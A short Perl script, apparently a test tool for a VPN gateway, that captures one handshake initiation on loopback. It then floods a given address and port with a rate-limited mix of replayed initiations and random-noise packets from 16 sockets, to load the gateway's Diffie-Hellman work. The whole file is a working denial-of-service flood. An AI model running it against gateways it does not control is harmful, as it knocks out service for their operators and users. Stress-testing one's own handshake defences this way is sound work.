# SPDX-License-Identifier: Apache-2.0
# Handshake initiations, as whoever wants to keep a gateway busy sends them: one that is right but was heard before, which costs
# a Diffie-Hellman each, and many that are noise.
#   flood.pl capture PORT FILE              keeps the first initiation that comes to a port
#   flood.pl send FILE ADDRESS PORT N RATE  sends N datagrams, RATE each second, from 16 ports
use strict;
use warnings;
use Socket;

my ($mode, @words) = @ARGV;
if ($mode eq 'capture') {
  my ($port, $file) = @words;
  socket(my $socket, PF_INET, SOCK_DGRAM, 0) or die "socket: $!";
  bind($socket, sockaddr_in($port, INADDR_LOOPBACK)) or die "bind: $!";
  alarm 30;
  my $datagram = '';
  do { recv($socket, $datagram, 2048, 0) // die "recv: $!" } until length $datagram == 148 && ord $datagram == 1;
  open(my $out, '>:raw', $file) or die "$file: $!";
  print $out $datagram;
  close $out or die "$file: $!";
} else {
  my ($file, $address, $port, $count, $rate) = @words;
  open(my $in, '<:raw', $file) or die "$file: $!";
  read($in, my $initiation, 148) == 148 or die "$file is no initiation";
  my $to = sockaddr_in($port, inet_aton($address));
  my @sockets = map { socket(my $socket, PF_INET, SOCK_DGRAM, 0) or die "socket: $!"; $socket } 1 .. 16;
  for my $i (0 .. $count - 1) {
    my $datagram = $i % 2 ? $initiation : substr($initiation, 0, 8) . pack('N*', map { int rand 2**32 } 1 .. 35);
    # A full queue is not our concern.
    send($sockets[$i % 16], $datagram, 0, $to);
    select(undef, undef, undef, 20 / $rate) if $i % 20 == 19;
  }
}
